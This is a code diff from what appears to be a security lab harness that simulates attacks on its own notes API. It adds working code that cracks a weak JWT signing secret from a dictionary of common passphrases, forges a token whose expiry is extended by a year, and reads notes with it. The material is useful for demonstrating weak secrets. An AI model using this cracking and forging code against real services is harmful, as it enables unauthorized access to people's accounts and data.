@@ -1,6 +1,6 @@
-import { createHmac, randomInt } from 'node:crypto'
+import { createHmac, randomBytes } from 'node:crypto'
 import { now } from '../clock.ts'
-import { type AttackContext, type AttackRequest, type AttackRun, type Attempt, attemptAtRate } from './attack.ts'
+import { type AttackContext, type AttackRequest, type AttackRun, askAndListen, attemptAtRate } from './attack.ts'
 
 const words =
   'secret password changeme jwt key admin test token default private dev production example koa notes api lab demo auth my super app user the hello world'.split(
@@ -11,46 +11,69 @@ const ends = ['', '1', '12', '123', '!', '2024', '2025', '2026']
 /** The rest of the time belongs to the load: both share a process. */
 const batchMs = 5
 
-/** Somebody has one token and looks for the secret that signs it, offline. The lab has signed it as a careless person would. */
-export async function guessableSecret({ token }: AttackContext) {
-  const pick = <T>(list: T[]): T => list[randomInt(list.length)] as T
-  const secret = secretOf(`${pick(words)}${pick(separators)}${pick(words)}`, pick(ends))
-  const signed = token.slice(0, token.lastIndexOf('.'))
-  return searchFor(`${signed}.${sign(signed, secret)}`)
+/**
+ * The attacker has one token of the API and guesses offline the secret that signs it. With the secret the attacker signs a
+ * token that lasts for a year, and reads notes with it.
+ */
+export async function guessableSecret({ token, pool }: AttackContext) {
+  const search = searchFor(token)
+  let forged: string | undefined
+  return (run: AttackRun) =>
+    attemptAtRate(run, (): AttackRequest => {
+      if (search.found === undefined) return offline(search)
+      forged ??= withLongerLife(token, search.found)
+      const request = { method: 'GET', path: '/data/notes?limit=1', token: forged } as const
+      return { what: 'a forged token', send: (signal) => askAndListen(pool, { ...request, signal }) }
+    })
 }
 
-/** The same with a token of the API. */
+/** The same guesses at a token that was signed with 32 random bytes. */
 export async function randomSecret({ token }: AttackContext) {
-  return searchFor(token)
+  const signed = token.slice(0, token.lastIndexOf('.'))
+  const search = searchFor(`${signed}.${sign(signed, randomBytes(32).toString('base64url'))}`)
+  return (run: AttackRun) => attemptAtRate(run, () => offline(search))
 }
 
-function searchFor(token: string) {
+type Search = { batch: () => number; found?: string }
+
+function offline(search: Search): AttackRequest {
+  return { what: 'some guesses', send: async () => ({ status: 0, guesses: search.batch() }) }
+}
+
+/** A search through the dictionary. `batch` tries for a few milliseconds and returns the number of guesses. */
+function searchFor(token: string): Search {
   const dot = token.lastIndexOf('.')
   const [signed, signature] = [token.slice(0, dot), token.slice(dot + 1)]
   let guesses = dictionary()
-  let found = false
-
-  function batch(): Pick<Attempt, 'status' | 'guesses'> {
-    let count = 0
-    for (const end = now() + batchMs; !found && now() < end; ) {
-      const { value, done } = guesses.next()
-      if (done) guesses = dictionary()
-      else {
-        count++
-        found = sign(signed, value) === signature
+  const search: Search = {
+    batch() {
+      let count = 0
+      for (const end = now() + batchMs; search.found === undefined && now() < end; ) {
+        const { value, done } = guesses.next()
+        if (done) guesses = dictionary()
+        else {
+          count++
+          if (sign(signed, value) === signature) search.found = value
+        }
       }
-    }
-    return { status: found ? 200 : 0, guesses: count }
+      return count
+    },
   }
-  const next = (): AttackRequest => ({ what: 'some guesses', send: async () => batch() })
-  return (run: AttackRun) => attemptAtRate(run, next)
+  return search
+}
+
+function withLongerLife(token: string, secret: string): string {
+  const [head = '', payload = ''] = token.split('.')
+  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as { exp: number }
+  const longer = Buffer.from(JSON.stringify({ ...claims, exp: claims.exp + 31_536_000 })).toString('base64url')
+  return `${head}.${longer}.${sign(`${head}.${longer}`, secret)}`
 }
 
 function sign(signed: string, secret: string): string {
   return createHmac('sha256', secret).update(signed).digest('base64url')
 }
 
-/** What people make up: two common words first, then three. */
+/** Secrets that people make up: two common words first, then three. */
 export function* dictionary(): Generator<string, undefined> {
   for (const pair of pairs(words)) for (const end of ends) yield secretOf(pair, end)
   for (const triple of pairs([...pairs(words)])) for (const end of ends) yield secretOf(triple, end)
